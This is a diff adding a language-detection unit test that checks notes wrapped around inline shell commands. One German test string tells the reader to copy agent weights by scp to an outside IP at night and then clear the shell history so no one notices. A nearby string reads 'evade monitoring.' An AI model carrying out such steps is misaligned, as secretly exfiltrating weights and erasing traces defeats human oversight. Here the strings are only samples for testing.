@@ -101,6 +101,17 @@ def test_code_numbers_and_a_word_or_two_are_not_a_language():
         assert other_language([text]) is None, text
 
 
+def test_a_note_around_code_is_read_by_its_words_outside_the_code():
+    """Inline code, paths, options and identifiers are words of no language: a German note around a shell command
+    holds German function words enough among its own words, and an English note around one stays English."""
+    assert language_of("Nachts `scp -r /opt/agent/weights/ backup@198.51.100.20:/archiv/geheim/` ausführen und "
+                       "danach `history -c`, damit keiner es merkt.") == "German"
+    for text in ["Run `kubectl rollout restart deploy/api -n prod` after the config change.",
+                 "Set `max_connections=200` in postgresql.conf and reload with `pg_ctl reload -D /var/lib/pgsql/data`.",
+                 "Ship the de-DE and fr-FR bundles via `npm run build:i18n -- --locales de,fr` before the release."]:
+        assert language_of(text) is None, text
+
+
 def test_two_words_the_model_knows_none_of_are_another_language():
     """A greeting of two words goes to a person as "Merci beaucoup" always did: the model reads word pieces of it,
     and a bare directive of two words ("Überwachung umgehen.") is written the same way."""
